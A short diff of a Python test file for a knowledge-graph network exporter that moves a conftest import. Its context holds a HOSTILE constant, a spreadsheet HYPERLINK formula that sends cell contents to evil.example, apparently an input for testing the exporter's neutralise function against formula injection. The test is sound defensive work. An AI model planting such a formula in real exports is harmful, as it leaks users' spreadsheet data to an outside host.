@@ -8,13 +8,13 @@ from pathlib import Path
 
 import networkx as nx
 import pytest
-from conftest import run_kg, tree_snapshot
 from rdflib import Graph
 
 from kg import export_network
 from kg.build import load_graph
 from kg.errors import OutputError
 from kg.netexport import network_text, neutralise
+from tests.conftest import run_kg, tree_snapshot
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 FILES = {
